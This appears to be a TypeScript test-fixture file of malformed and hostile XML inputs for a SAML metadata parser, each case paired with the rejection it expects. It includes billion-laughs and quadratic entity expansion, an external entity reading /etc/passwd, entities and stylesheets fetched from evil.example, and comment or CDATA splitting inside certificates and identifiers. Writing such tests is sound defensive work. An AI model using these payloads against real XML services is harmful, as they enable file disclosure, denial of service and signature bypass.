import { tenant } from '../../support/metadata.ts';
import { aws, azure } from './case.ts';
import type { BadFile } from './cases.ts';
import { awsFile, azureFile, azureRoot, declaration, keyDescriptor } from './files.ts';
import { keys } from './keys.ts';

const laughs = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');

/** XML that is damaged, or that is made to harm whoever parses it. */
export function xmlCases(): BadFile[] {
  const good = azureFile();
  const root = azureRoot();
  const inside = (text: string) => good.replace('<IDPSSODescriptor', `${text}<IDPSSODescriptor`);
  const split = keys.good.base64.slice(0, 40);
  return [
    azure('a document type', 'has-doctype', `<!DOCTYPE EntityDescriptor>${root}`),
    azure('billion laughs', 'has-doctype', `<!DOCTYPE a [<!ENTITY l0 "lol">${laughs}]><a>&l9;</a>`),
    azure('quadratic blow-up', 'has-doctype', `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(50_000)}">]><a>${'&x;'.repeat(16_000)}</a>`),
    azure('an external entity', 'has-doctype', `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`),
    azure('a parameter entity', 'has-doctype', `<!DOCTYPE a [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${root}`),
    azure('a document type in small letters', 'has-doctype', `<!doctype EntityDescriptor>${root}`),
    azure('a document type after the declaration', 'has-doctype', `${declaration}\n<!DOCTYPE x SYSTEM "x.dtd">${root}`),
    azure('a document type in the middle', 'has-doctype', inside('<!DOCTYPE x>')),
    azure('an instruction to a style sheet', 'has-instruction', `<?xml-stylesheet href="https://evil.example/x.xsl"?>${root}`),
    azure('an instruction inside', 'has-instruction', inside('<?php echo 1 ?>')),
    azure('nesting 65 deep', 'too-deep', '<a>'.repeat(65) + '</a>'.repeat(65)),
    azure('nesting without end', 'too-many-elements', '<a>'.repeat(80_000)),
    azure('nesting of names with prefixes', 'too-deep', '<x:a xmlns:x="urn:y">'.repeat(900)),
    azure('20,000 attributes', 'too-many-attributes', `<a ${Array.from({ length: 20_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`),
    azure('33 attributes', 'too-many-attributes', `<a ${Array.from({ length: 33 }, (_, n) => `a${n}="1"`).join(' ')}/>`),
    azure(
      'declarations of namespaces without end',
      'too-many-attributes',
      `<a ${Array.from({ length: 9_000 }, (_, n) => `xmlns:a${n}="u"`).join(' ')}/>`,
    ),
    azure('60,000 elements', 'too-many-elements', `<a>${'<b/>'.repeat(60_000)}</a>`),
    azure('50,000 character references', 'too-many-references', `<a>${'&#65;'.repeat(50_000)}</a>`),
    azure('one name of 200,000 letters', 'too-long-part', `<${'a'.repeat(200_000)}/>`),
    azure('one attribute of 200,000 letters', 'too-long-part', azureRoot({ entityId: 'a'.repeat(200_000) })),
    azure('a comment of 200,000 letters', 'too-long-part', `<a><!--${'a'.repeat(200_000)}--></a>`),
    azure('stray end tags without end', 'not-well-formed', '</a>'.repeat(60_000)),
    azure('a stray end tag', 'not-well-formed', `${good}</a>`),
    azure('an end tag of another name', 'not-well-formed', good.replace('</IDPSSODescriptor>', '</IDPSSODescripto>')),
    azure('a lone ampersand', 'not-well-formed', good.replace('/saml2"', '/saml2?a&b"')),
    azure('an angle bracket in an attribute', 'not-well-formed', good.replace('/saml2"', '/<saml2"')),
    azure('an attribute without quotes', 'not-well-formed', good.replace('use="signing"', 'use=signing')),
    azure('an attribute without a value', 'not-well-formed', good.replace('use="signing"', 'use')),
    azure('a reference to no character', 'not-well-formed', inside('&#0;')),
    azure('a reference to half a character', 'not-well-formed', inside('&#xD800;')),
    azure('a comment with two hyphens', 'not-well-formed', inside('<!-- a -- b -->')),
    azure('a name that begins with a digit', 'not-well-formed', inside('<1a/>')),
    azure('a prefix with nothing after it', 'not-well-formed', inside('<a:/>')),
    azure('a second declaration', 'not-well-formed', good.replace('<IDPSSO', `${declaration}<IDPSSO`)),
    azure('a bracket of CDATA in text', 'not-well-formed', inside(']]>')),
    aws('AWS’s file with a missing bracket', 'not-well-formed', awsFile().replace('</md:NameIDFormat>', '</md:NameIDFormat')),
    azure('a file that ends in a tag', 'cut-short', good.slice(0, -10)),
    azure('a file that ends in a comment', 'cut-short', `${root.slice(0, -19)}<!-- `),
    azure('a declaration and nothing more', 'cut-short', declaration),
    azure('two files in one', 'two-roots', root + root),
    azure('AWS’s and Azure’s file in one', 'two-roots', root + awsFile().replace(/^<\?.*?\?>/, '')),
    azure('text before the root', 'text-outside', `metadata:\n${root}`),
    azure('text after the root', 'text-outside', `${root}\nthe end`),
    azure('an entity nobody explains', 'undefined-entity', good.replace('/saml2"', '/saml2&nbsp;"')),
    azure('a prefix nobody explains', 'unbound-prefix', inside('<fed:Role/>')),
    azure(
      'a type whose prefix is nowhere explained',
      'unbound-prefix',
      good.replace('<IDPSSODescriptor', '<IDPSSODescriptor xsi:type="x"'),
    ),
    azure('the same attribute twice', 'doubled-attribute', good.replace('use="signing"', 'use="signing" use="encryption"')),
    azure('two entity ids', 'doubled-attribute', root.replace('entityID=', 'entityID="https://evil.example/" entityID=')),
    azure(
      'the same attribute under two prefixes',
      'doubled-attribute',
      inside('<x a:b="1" c:b="2" xmlns:a="urn:u" xmlns:c="urn:u"/>'),
    ),
    azure('XML 1.1', 'odd-xml-version', good.replace('version="1.0"', 'version="1.1"')),
    azure(
      'a comment inside the certificate',
      'split-value',
      azureRoot({ keyDescriptors: keyDescriptor(keys.good.base64.replace(split, `${split}<!-- -->`)) }),
    ),
    azure(
      'CDATA inside the certificate',
      'split-value',
      azureRoot({ keyDescriptors: keyDescriptor(`<![CDATA[${keys.good.base64}]]>`) }),
    ),
    aws('a comment inside NameIDFormat', 'split-value', awsFile().replace(':emailAddress<', ':emailAddress<!---->.evil<')),
    aws('CDATA inside NameIDFormat', 'split-value', awsFile().replace('emailAddress', '<![CDATA[emailAddress]]>')),
    azure('a comment inside the digest', 'split-value', good.replace('<DigestValue>', '<DigestValue><!--AAAA-->')),
    azure('an entity id with a comment in it', 'not-well-formed', root.replace(tenant, `${tenant}<!-- -->`)),
  ];
}
